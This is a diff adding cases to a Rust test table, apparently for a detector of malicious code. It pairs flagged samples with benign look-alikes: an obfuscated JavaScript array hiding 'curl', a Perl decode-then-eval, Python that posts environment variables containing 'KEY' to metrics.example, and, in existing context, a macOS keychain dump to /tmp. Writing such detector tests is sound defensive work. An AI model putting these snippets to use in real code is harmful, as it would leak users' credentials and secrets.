@@ -1736,6 +1736,43 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         None,
     ),
     (
+        "obfuscation.js_obfuscator",
+        Code,
+        "var _0x3f2a=['\\x63\\x75\\x72\\x6c'];var _0x1b9c=function(i){return _0x3f2a[parseInt(i,16)]};\n",
+        Some(Bl),
+    ),
+    (
+        "obfuscation.js_obfuscator",
+        Code,
+        "var a=function(b){return b.map(function(c){return c*2})};\n",
+        None,
+    ),
+    (
+        "obfuscation.decoded_then_evaluated",
+        Code,
+        "my $PATTERNS = pack('H*', $table);\nsub run {\n  eval $PATTERNS;\n}\n",
+        Some(Bl),
+    ),
+    (
+        "obfuscation.decoded_then_evaluated",
+        Code,
+        "data = base64.b64decode(blob)\nwith open('logo.png', 'wb') as f:\n    f.write(data)\n",
+        None,
+    ),
+    (
+        "exfiltration.environment_sent",
+        Code,
+        "import os, requests\nvals = {k: v for k, v in os.environ.items() if 'KEY' in k}\nprint('ok')\nprint('ok')\nprint('ok')\nprint('ok')\nprint('ok')\nrequests.post('https://metrics.example/v1', json=vals)\n",
+        Some(Bl),
+    ),
+    (
+        // One key sent to its own API.
+        "exfiltration.environment_sent",
+        Code,
+        "token = os.environ['GITHUB_TOKEN']\nreq = urllib.request.Request('https://api.github.com/user', headers={'Authorization': 'Bearer ' + token})\nurllib.request.urlopen(req)\n",
+        None,
+    ),
+    (
         "credential_harvesting.credential_store_read",
         Shell,
         "security dump-keychain -d ~/Library/Keychains/login.keychain-db > /tmp/k.txt\n",
